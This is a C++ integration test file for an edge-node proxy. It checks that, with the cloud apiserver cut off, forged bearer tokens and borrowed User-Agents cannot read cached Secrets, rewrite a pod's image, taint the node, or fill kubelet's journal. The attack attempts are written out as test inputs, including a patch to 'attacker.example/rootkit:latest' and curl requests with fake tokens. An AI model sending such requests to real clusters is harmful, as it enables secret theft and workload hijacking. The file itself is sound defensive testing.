// Offline, no caller gets more than the apiserver would give it (issue 30, docs/security.md
// "Offline: who gets what"), shown as an attacker on the node would try it, with the real binary:
// the cloud is cut off, and a made-up bearer token with kubelet's User-Agent (any local user on
// 10261, any pod on 10268) tries to read kubelet's cached Secret, rewrite a pod's image, taint the
// node; a caller without a token borrows the User-Agent of an agent that listed Secrets with its
// own token. Each is refused, while kubelet without a token still reads its pod's Secret and
// patches pod status, and the agent still reads, with its own token, what it read online.
#include <signal.h>
#include <unistd.h>

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "test/integration/cluster.h"
#include "test/integration/http_client.h"

namespace yurthub::test {
namespace {

using testing::HasSubstr;
using testing::Not;

constexpr const char* kKubelet = "kubelet/v1.26.1 (linux/amd64) kubernetes/8f94681";
constexpr const char* kOpsTool = "ops-tool/1.0";
constexpr const char* kAdminToken = "Bearer admin-token-0123456789";  // scripts/gen-certs.sh
constexpr const char* kMadeUp = "Bearer not-a-real-token";
const std::string kWebSecret =
    "/api/v1/namespaces/default/secrets?fieldSelector=metadata.name%3Dweb-credentials&limit=500&"
    "resourceVersion=0";
const std::string kSystemSecrets = "/api/v1/namespaces/kube-system/secrets";
const std::string kWebPod = "/api/v1/namespaces/default/pods/web-0";

class OfflineIdentity : public testing::Test {
 protected:
  void SetUp() override {
    cluster_.start_apiserver();
    for (const char* yaml :
         {"apiVersion: v1\nkind: Secret\nmetadata:\n  name: web-credentials\n  namespace: default\n"
          "stringData:\n  password: kubelet-mounts-this\n",
          "apiVersion: v1\nkind: Secret\nmetadata:\n  name: cloud-keys\n  namespace: kube-system\n"
          "stringData:\n  key: only-the-ops-tool-read-this\n",
          "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: yurt-hub-cfg\n"
          "  namespace: kube-system\ndata:\n  cache_agents: ops-tool\n"}) {
      auto applied = cluster_.kubectl_direct({"apply", "-f", "-"}, std::chrono::seconds(30), yaml);
      ASSERT_EQ(applied.exit_code, 0) << applied.err;
    }
    cluster_.start_hub();
  }
  HttpResponse as(const char* agent, const char* authorization, const std::string& method,
                  const std::string& target, const std::string& content_type = "",
                  const std::string& body = "") {
    Headers headers = {{"User-Agent", agent}};
    if (*authorization != '\0') headers.emplace_back("Authorization", authorization);
    if (!content_type.empty()) headers.emplace_back("Content-Type", content_type);
    return http_request(cluster_.proxy_port(), method, target, headers, body);
  }
  // What the node and the ops tool read while the cloud is there; then the link is cut.
  void online_then_cut() {
    const double ops = cluster_.cache_ops();
    ASSERT_EQ(as(kKubelet, "", "GET", kWebSecret).status, 200);
    ASSERT_EQ(as(kKubelet, "", "GET", kWebPod).status, 200);
    ASSERT_EQ(as(kKubelet, "", "GET", "/api/v1/nodes/edge-node-1").status, 200);
    auto secrets = as(kOpsTool, kAdminToken, "GET", kSystemSecrets);
    ASSERT_EQ(secrets.status, 200);
    ASSERT_THAT(secrets.body, HasSubstr("cloud-keys"));
    ASSERT_TRUE(cluster_.wait_cache_committed(ops));
    cluster_.apiserver().signal(SIGSTOP);
    ASSERT_TRUE(cluster_.wait_hub_sees_apiserver(false, std::chrono::seconds(15)));
  }
  Cluster cluster_{https_demo_cluster()};
};

TEST_F(OfflineIdentity, AMadeUpTokenGetsNoDataAndChangesNothing) {
  online_then_cut();
  // Reading kubelet's Secret with kubelet's User-Agent and a token nobody issued.
  auto secret = as(kKubelet, kMadeUp, "GET", kWebSecret);
  EXPECT_EQ(secret.status, 503) << secret.body;
  EXPECT_THAT(secret.body, HasSubstr("cannot verify this bearer token"));
  EXPECT_THAT(secret.body, Not(HasSubstr("web-credentials")));
  // The same from a pod, on the HTTPS port.
  auto from_pod =
      run_command({"/usr/bin/curl", "-s", "--cacert", cluster_.dir() + "/pki/ca.crt", "-A",
                   kKubelet, "-H", std::string("Authorization: ") + kMadeUp,
                   "https://localhost:" + std::to_string(cluster_.secure_port()) + kWebSecret},
                  std::chrono::seconds(20));
  EXPECT_THAT(from_pod.out, HasSubstr(R"("code":503)")) << from_pod.err;
  EXPECT_THAT(from_pod.out, Not(HasSubstr("web-credentials")));
  // Rewriting a privileged pod's image: refused, and kubelet's own view keeps the real one.
  auto rewrite =
      as(kKubelet, kMadeUp, "PATCH", kWebPod, "application/strategic-merge-patch+json",
         R"({"spec":{"containers":[{"name":"web","image":"attacker.example/rootkit:latest"}]}})");
  EXPECT_EQ(rewrite.status, 503) << rewrite.body;
  EXPECT_THAT(as(kKubelet, "", "GET", kWebPod).body, Not(HasSubstr("attacker.example")));
  // Tainting the node.
  auto taint =
      as(kKubelet, kMadeUp, "PATCH", "/api/v1/nodes/edge-node-1", "application/merge-patch+json",
         R"({"spec":{"taints":[{"key":"x","effect":"NoExecute"}]}})");
  EXPECT_EQ(taint.status, 503) << taint.body;
  EXPECT_THAT(as(kKubelet, "", "GET", "/api/v1/nodes/edge-node-1").body,
              Not(HasSubstr(R"("key":"x")")));
  EXPECT_EQ(cluster_.metric("node_yurthub_journal_entries"), 0);
  EXPECT_EQ(cluster_.metric(R"(node_yurthub_offline_callers_total{verdict="unverifiable"})"), 4);

  // kubelet itself, without a token, still reads its pod's Secret and reports pod status.
  auto own = as(kKubelet, "", "GET", kWebSecret);
  EXPECT_EQ(own.status, 200);
  EXPECT_THAT(own.body, HasSubstr("web-credentials"));
  auto status =
      as(kKubelet, "", "PATCH", kWebPod + "/status", "application/strategic-merge-patch+json",
         R"({"status":{"phase":"Running","podIP":"192.0.2.11"}})");
  EXPECT_EQ(status.status, 200) << status.body;
}

TEST_F(OfflineIdentity, AnAgentsUserAgentIsNotItsCredential) {
  online_then_cut();
  // The ops tool's User-Agent without its token: the node never read kube-system's Secrets.
  auto borrowed = as(kOpsTool, "", "GET", kSystemSecrets);
  EXPECT_EQ(borrowed.status, 404) << borrowed.body;
  EXPECT_THAT(borrowed.body, Not(HasSubstr("only-the-ops-tool")));
  // Nor with another token.
  EXPECT_EQ(as(kOpsTool, kMadeUp, "GET", kSystemSecrets).status, 503);
  // With its own token, what it read online.
  auto own = as(kOpsTool, kAdminToken, "GET", kSystemSecrets);
  EXPECT_EQ(own.status, 200) << own.body;
  EXPECT_THAT(own.body, HasSubstr("cloud-keys"));
  // And the node's data is not the token's: kubelet's Secret list is not cached for it.
  EXPECT_EQ(as(kKubelet, kAdminToken, "GET", kWebSecret).status, 404);
}

// A local user without a token writes as the node, but may fill only half of the journal: the
// rest stays for kubelet (root on the node), which keeps reporting pod status.
class OfflineJournalShare : public testing::Test {
 protected:
  static ClusterOptions options() {
    ClusterOptions o = demo_cluster();
    o.hub_flags = {"--journal-max-entries=4"};
    return o;
  }
  // PATCHes web-0's status as `uid` (through setpriv when not root); the HTTP status code.
  std::string patch_status_as(uid_t uid) {
    return run_command(as_user(uid, {"/usr/bin/curl", "-s", "-o", "/dev/null", "-w", "%{http_code}",
                                     "-X", "PATCH", "-A", kKubelet, "-H",
                                     "Content-Type: application/merge-patch+json", "-d",
                                     R"({"status":{"phase":"Running"}})",
                                     "http://127.0.0.1:" + std::to_string(cluster_.proxy_port()) +
                                         kWebPod + "/status"}),
                       std::chrono::seconds(20))
        .out;
  }
  Cluster cluster_{options()};
};

TEST_F(OfflineJournalShare, ALocalUserCannotFillTheJournalKubeletNeeds) {
  if (::getuid() != 0) GTEST_SKIP() << "needs root to act as another user";
  cluster_.start_apiserver();
  cluster_.start_hub();
  const double ops = cluster_.cache_ops();
  ASSERT_EQ(http_request(cluster_.proxy_port(), "GET", kWebPod, {{"User-Agent", kKubelet}}).status,
            200);
  ASSERT_TRUE(cluster_.wait_cache_committed(ops));
  cluster_.apiserver().signal(SIGSTOP);
  ASSERT_TRUE(cluster_.wait_hub_sees_apiserver(false, std::chrono::seconds(15)));

  constexpr uid_t kNobody = 65534;
  EXPECT_EQ(patch_status_as(kNobody), "200");
  EXPECT_EQ(patch_status_as(kNobody), "200");
  EXPECT_EQ(patch_status_as(kNobody), "503") << "its half of 4 entries is full";
  EXPECT_EQ(patch_status_as(0), "200") << "kubelet's half";
  EXPECT_EQ(cluster_.metric("node_yurthub_journal_entries"), 3);
  cluster_.apiserver().signal(SIGCONT);
}

}  // namespace
}  // namespace yurthub::test
